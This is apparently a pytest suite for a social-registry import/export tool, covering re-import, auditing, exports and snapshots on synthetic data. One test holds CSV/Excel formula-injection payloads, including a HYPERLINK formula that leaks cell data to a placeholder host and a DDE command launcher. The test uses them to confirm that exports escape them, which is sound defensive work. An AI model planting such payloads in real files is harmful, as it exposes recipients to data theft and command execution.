"""Import on both backends: happy path, idempotent re-import, audited updates, and export round trips."""

from __future__ import annotations

import csv
import datetime as dt
import json
import re

import pyarrow.parquet as pq
import pytest
from sqlalchemy import select, text

from siks.domain.status import ImportStatus
from siks.registry import loader, sample
from siks.registry.exporter import export_registry
from siks.registry.importer import import_file
from siks.registry.snapshot import write_snapshot
from siks.store.db import session_factory, transaction
from siks.store.models import Assessment, AuditEntry, Family, FamilyKK, Household, ImportBatch, Member


def _file(tmp_path, n=60, seed=1, name="dtks.csv", **kw):
    return sample.write_csv(sample.rows(n, seed=seed, **kw), tmp_path / name)


def test_happy_path(engine, tmp_path, counts):
    path = _file(tmp_path, warning_rate=0.1)
    result = import_file(engine, path, "operator1")
    assert result.status == ImportStatus.DIMUAT, result.errors[:3]
    c = counts(engine)
    assert c["member"] == result.rows == result.inserted == 60
    assert c["household"] == c["assessment"] == result.counts["household"]["inserted"]
    assert c["family"] == c["family_kk"] == result.counts["family"]["inserted"]
    assert c["assessment_member"] == 60
    assert c["audit_log"] == 1 and c["import_batch"] == 1  # one audit entry for a fresh batch
    assert result.warnings and {w.code for w in result.warnings} == {"NIK_EMPTY"}

    rows = sample.rows(60, seed=1, warning_rate=0.1).to_pylist()
    first = rows[0]
    with session_factory(engine)() as s:
        batch = s.scalars(select(ImportBatch)).one()
        assert (batch.actor, batch.rows, batch.inserted, batch.warning_count) == (
            "operator1",
            60,
            60,
            len(result.warnings),
        )
        assert batch.warnings[0]["code"] == "NIK_EMPTY"
        m = s.scalars(select(Member).where(Member.ref == f"{first['id_keluarga']}-1")).one()
        assert (m.nama, m.nik, m.sex, m.created_by_batch_id) == (
            first["nama"],
            first["nik"] or None,
            int(first["jenis_kelamin"]),
            batch.id,
        )
        assert m.tanggal_lahir == dt.date.fromisoformat(first["tanggal_lahir"])
        h = m.family.household
        assert h.ref == first["id_ruta"] and h.desa_code == first["kode_desa"]
        assert h.rw == first["rw"].zfill(3)
        assert m.family.kk_number == first["no_kk"]
        a = h.assessments[-1]
        assert a.instrument == "REGSOSEK2022.K" and a.assessed_on == dt.date(2023, 5, 1)
        assert a.answers["jenis_lantai"] == int(first["jenis_lantai"])
        assert isinstance(a.answers["aset_ac"], bool)
        mine = next(am for am in a.members if am.member_id == m.id)
        assert mine.answers["pendidikan"] == int(first["pendidikan"])
        audit = s.scalars(select(AuditEntry)).one()
        assert (audit.action, audit.entity, audit.entity_id, audit.actor) == (
            "impor",
            "import_batch",
            batch.id,
            "operator1",
        )


def test_reimport_changes_nothing(engine, tmp_path, counts):
    path = _file(tmp_path)
    assert import_file(engine, path, "a").status == ImportStatus.DIMUAT
    before = counts(engine)
    again = import_file(engine, path, "b")
    assert (again.status, again.inserted, again.updated) == (ImportStatus.SUDAH_DIMUAT, 0, 0)
    forced = import_file(engine, path, "b", force=True)  # content compared record by record
    assert (forced.status, forced.inserted, forced.updated, forced.unchanged) == (
        ImportStatus.TIDAK_BERUBAH,
        0,
        0,
        60,
    )
    assert counts(engine) == before  # no new audit rows, no new batch


def test_changed_content_is_updated_and_audited(engine, tmp_path, counts):
    rows = sample.rows(40, seed=3).to_pylist()
    sample.write_rows(rows, tmp_path / "v1.csv")
    assert import_file(engine, tmp_path / "v1.csv", "a").status == ImportStatus.DIMUAT
    before = counts(engine)

    changed = [dict(r) for r in rows]
    changed[0]["nama"] = "NAMA BARU"  # member field
    fam = changed[0]["id_keluarga"]
    for r in changed:
        if r["id_keluarga"] == fam:
            r["no_kk"] = "3509150202200002"  # a new KK for the whole family
    ruta = changed[0]["id_ruta"]
    for r in changed:
        if r["id_ruta"] == ruta:
            r["jenis_lantai"] = "8"  # household answer → a new assessment
            r["alamat"] = "JL BARU 1"  # household field
    sample.write_rows(changed, tmp_path / "v2.csv")
    result = import_file(engine, tmp_path / "v2.csv", "b")
    assert result.status == ImportStatus.DIMUAT, result.errors[:3]
    assert result.inserted == 0
    n_ruta = sum(r["id_ruta"] == ruta for r in rows)
    assert result.updated == n_ruta and result.unchanged == 40 - n_ruta
    after = counts(engine)
    assert after["member"] == before["member"] and after["household"] == before["household"]
    assert after["assessment"] == before["assessment"] + 1
    assert after["family_kk"] == before["family_kk"] + 1

    with session_factory(engine)() as s:
        m = s.scalars(select(Member).where(Member.ref == f"{fam}-1")).one()
        assert (m.nama, m.version) == ("NAMA BARU", 2)
        kk = s.scalars(select(FamilyKK).where(FamilyKK.family_id == m.family_id).order_by(FamilyKK.id)).all()
        assert [k.kk_number for k in kk] == [rows[0]["no_kk"], "3509150202200002"]
        assert kk[0].valid_to is not None and kk[1].valid_to is None
        h = s.scalars(select(Household).where(Household.ref == ruta)).one()
        assert h.alamat == "JL BARU 1" and len(h.assessments) == 2
        assert (h.assessments[0].answers["jenis_lantai"], h.assessments[1].answers["jenis_lantai"]) == (
            int(rows[0]["jenis_lantai"]),
            8,
        )
        batch = s.scalars(select(ImportBatch).order_by(ImportBatch.id.desc())).first()
        entries = s.scalars(select(AuditEntry).where(AuditEntry.import_batch_id == batch.id)).all()
        by_entity = {(e.entity, e.entity_id): e for e in entries}
        nama = by_entity[("member", m.id)]
        assert (nama.action, nama.actor, nama.before, nama.after) == (
            "ubah",
            "b",
            {"nama": rows[0]["nama"]},
            {"nama": "NAMA BARU"},
        )
        kk_entry = by_entity[("family", m.family_id)]
        # The same audit keys as a KK change through usulan (tests/usulan/test_apply.py).
        assert (kk_entry.before, kk_entry.after) == (
            {"kk_number": rows[0]["no_kk"]},
            {"kk_number": "3509150202200002"},
        )
        assert by_entity[("household", h.id)].after == {"alamat": "JL BARU 1"}
        new_a = by_entity[("assessment", h.assessments[1].id)]
        assert new_a.action == "buat" and new_a.after["jenis_lantai"] == 8
        assert {e.entity for e in entries} == {"member", "family", "household", "assessment", "import_batch"}
    # importing v2 again: nothing
    assert import_file(engine, tmp_path / "v2.csv", "c", force=True).status == ImportStatus.TIDAK_BERUBAH


def test_export_reimports_unchanged(engine, tmp_path, counts):
    path = _file(tmp_path, n=120, warning_rate=0.05)
    assert import_file(engine, path, "a").status == ImportStatus.DIMUAT
    before = counts(engine)
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"export.{fmt}"
        assert export_registry(engine, out, fmt).rows == 120
        again = import_file(engine, out, "b")
        assert (again.status, again.inserted, again.updated) == (ImportStatus.TIDAK_BERUBAH, 0, 0), (
            again.errors[:3]
        )
    pq_out = export_registry(engine, tmp_path / "export.parquet", "parquet")
    table = pq.read_table(pq_out.path)
    assert table.num_rows == 120 and table.column_names[:3] == ["id_ruta", "kode_desa", "dusun"]
    assert counts(engine) == before


def test_export_escapes_formulas(engine, tmp_path):
    """A registry value that looks like a formula (entered elsewhere) is never written back live."""
    assert import_file(engine, _file(tmp_path, n=10), "a").status == ImportStatus.DIMUAT
    evil = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+cmd|x"]
    with transaction(engine) as s:
        members = s.scalars(select(Member).order_by(Member.id)).all()
        for m, value in zip(members, evil, strict=False):
            m.nama = value
        s.scalars(select(Household)).first().alamat = "=1+2"
    out = export_registry(engine, tmp_path / "x.csv", "csv").path
    with open(out, encoding="utf-8-sig") as f:
        cells = [c for row in csv.reader(f) for c in row]
    for value in [*evil, "=1+2"]:
        assert value not in cells
        assert "'" + value in cells
    from openpyxl import load_workbook

    export_registry(engine, tmp_path / "x.xlsx", "xlsx")
    ws = load_workbook(tmp_path / "x.xlsx").active
    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not any(t.startswith(("=", "+", "@")) for t in texts)
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_desa_filter_and_snapshot(engine, tmp_path):
    path = _file(tmp_path, n=200)
    assert import_file(engine, path, "a").status == ImportStatus.DIMUAT
    rows = sample.rows(200, seed=1).to_pylist()
    desa = rows[0]["kode_desa"]
    out = export_registry(engine, tmp_path / "d.csv", "csv", desa=desa)
    assert out.rows == sum(r["kode_desa"] == desa for r in rows)

    info = write_snapshot(tmp_path / "snap", engine=engine)
    member = pq.read_table(tmp_path / "snap" / "member.parquet")
    household = pq.read_table(tmp_path / "snap" / "household.parquet")
    assert (info.members, info.households) == (member.num_rows, household.num_rows)
    assert member.num_rows == 200
    assert household.num_rows == len({r["id_ruta"] for r in rows})
    assert {
        "member_id",
        "family_id",
        "household_id",
        "id_ruta",
        "kode_desa",
        "id_keluarga",
        "no_kk",
        "nik",
        "nama",
        "tanggal_lahir",
        "pendidikan",
        "tanggal_pendataan",
    } <= set(member.column_names)
    assert {"household_id", "id_ruta", "jenis_lantai", "aset_ac", "ternak_sapi"} <= set(
        household.column_names
    )
    assert str(member.schema.field("tanggal_lahir").type) == "date32[day]"
    assert str(household.schema.field("aset_ac").type) == "bool"
    assert "nama" not in household.column_names and "jenis_lantai" not in member.column_names
    import duckdb

    con = duckdb.connect()
    n = con.execute(
        f"SELECT count(*) FROM read_parquet('{tmp_path / 'snap' / 'member.parquet'}') m "
        f"JOIN read_parquet('{tmp_path / 'snap' / 'household.parquet'}') h USING (household_id)"
    ).fetchone()
    assert n[0] == 200


def test_bulk_path_keeps_indexes_and_constraints(engine, tmp_path, monkeypatch):
    monkeypatch.setattr(loader, "BULK_MIN_ROWS", 10)
    monkeypatch.setattr("siks.registry.importer.BULK_MIN_ROWS", 10)

    def schema():
        with engine.connect() as conn:
            if engine.dialect.name == "postgresql":
                q = (
                    "SELECT indexname FROM pg_indexes WHERE tablename IN ('household','family','family_kk',"
                    "'member','assessment','assessment_member') UNION ALL SELECT conname FROM pg_constraint "
                    "WHERE conrelid::regclass::text IN ('household','family','family_kk','member',"
                    "'assessment',"
                    "'assessment_member')"
                )
            else:
                q = "SELECT name FROM sqlite_master WHERE type = 'index'"
            return sorted(r[0] for r in conn.execute(text(q)))

    before = schema()
    assert import_file(engine, _file(tmp_path, n=300), "a").status == ImportStatus.DIMUAT
    assert schema() == before
    with pytest.raises(Exception), transaction(engine) as s:  # noqa: B017 - either backend's integrity error
        s.add(Household(ref=sample.rows(1, seed=1).column("id_ruta")[0].as_py(), desa_code="35.09.15.2001"))
    with engine.connect() as conn:  # foreign keys hold: every member's family exists
        orphans = conn.execute(
            text("SELECT count(*) FROM member m LEFT JOIN family f ON f.id = m.family_id WHERE f.id IS NULL")
        ).scalar_one()
    assert orphans == 0


def test_second_file_adds_to_the_registry(engine, tmp_path, counts):
    assert import_file(engine, _file(tmp_path, n=50, prefix="A"), "a").status == ImportStatus.DIMUAT
    b = sample.write_csv(sample.rows(30, seed=2, prefix="B"), tmp_path / "b.csv")
    result = import_file(engine, b, "a")
    assert (result.status, result.inserted) == (ImportStatus.DIMUAT, 30)
    assert counts(engine)["member"] == 80
    with session_factory(engine)() as s:
        ids = s.scalars(select(Member.id).order_by(Member.id)).all()
        assert ids == list(range(1, 81))  # ids reserved without gaps or clashes
        assert s.scalar(select(Family).where(Family.ref == "BK00000000")).household.ref == "BR00000000"
        assert len(s.scalars(select(Assessment)).all()) == counts(engine)["household"]


def test_answers_are_compact_on_disk_and_dicts_in_python(engine, tmp_path):
    path = _file(tmp_path, n=5)
    import_file(engine, path, "a")
    with engine.connect() as conn:
        raw = conn.execute(text("SELECT answers FROM assessment_member ORDER BY id LIMIT 1")).scalar_one()
    doc = raw if isinstance(raw, dict) else json.loads(raw)
    assert doc["k"] == "R22K.m1" and len(doc["v"]) == 18 and "pendidikan" not in doc
    first = sample.rows(5, seed=1).to_pylist()[0]
    with session_factory(engine)() as s:
        m = s.scalars(select(Member).order_by(Member.id)).first()
        answers = s.scalars(select(Assessment)).first().members[0].answers
        assert m.id == s.scalars(select(Assessment)).first().members[0].member_id
    assert answers["pendidikan"] == int(first["pendidikan"])
    assert answers["hamil"] is (first["hamil"] == "1")
    assert "nama" not in answers and "nik" not in answers


def test_pbdt_round_trip(engine, tmp_path, counts):
    path = _file(tmp_path, n=80, instrument="PBDT2015")
    result = import_file(engine, path, "a", instrument="PBDT2015")
    assert result.status == ImportStatus.DIMUAT, result.errors[:3]
    before = counts(engine)
    out = export_registry(engine, tmp_path / "pbdt.csv", "csv", instrument="PBDT2015")
    assert out.rows == 80
    again = import_file(engine, out.path, "b", instrument="PBDT2015")
    assert (again.status, again.inserted, again.updated) == (ImportStatus.TIDAK_BERUBAH, 0, 0), again.errors[
        :3
    ]
    assert counts(engine) == before
    assert export_registry(engine, tmp_path / "regsosek.csv", "csv").rows == 0  # another instrument's view
    with session_factory(engine)() as s:
        a = s.scalars(select(Assessment)).first()
        assert a.instrument == "PBDT2015" and isinstance(a.answers["aset_lemari_es"], bool)


def test_a_pbdt_registry_is_verified_whole(engine, tmp_path, monkeypatch):
    """Issue #18: a registry holding only PBDT-2015 ruta got "selesai: 0 temuan" from `siks verval run`,
    because the snapshot held only Regsosek ruta. Now every ruta is in it, and the run finds things."""
    from typer.testing import CliRunner

    from siks.cli import app

    path = _file(tmp_path, n=120, instrument="PBDT2015")
    assert import_file(engine, path, "a", instrument="PBDT2015").status == ImportStatus.DIMUAT
    with open(path, encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    info = write_snapshot(tmp_path / "snap", engine=engine)
    ruta = {r["id_ruta"] for r in rows}
    assert (info.members, info.households) == (len(rows), len(ruta))
    assert info.by_instrument == {"PBDT2015": len(ruta)}
    household = pq.read_table(tmp_path / "snap" / "household.parquet").to_pylist()
    assert {h["instrumen"] for h in household} == {"PBDT2015"}
    assert all(h["jenis_lantai"] is None for h in household)  # PBDT codes are not read as Regsosek's
    member = pq.read_table(tmp_path / "snap" / "member.parquet")
    assert sorted(member.column("nama").to_pylist()) == sorted(r["nama"] for r in rows)

    monkeypatch.setenv("SIKS_DATA_DIR", str(tmp_path / "data"))
    url = engine.url.render_as_string(hide_password=False)
    out = CliRunner(env={"COLUMNS": "250"}).invoke(app, ["verval", "run", "--db", url, "--oleh", "uji"])
    assert out.exit_code == 0, (out.output, out.exception)
    assert f"Snapshot: {len(ruta)} ruta" in out.output and "instrumen lain (PBDT2015)" in out.output
    found = re.search(r"selesai: ([\d.,]+) temuan", out.output)
    assert found and int(re.sub(r"\D", "", found.group(1))) >= len(ruta), (
        out.output
    )  # ≥ one a ruta (no desil)
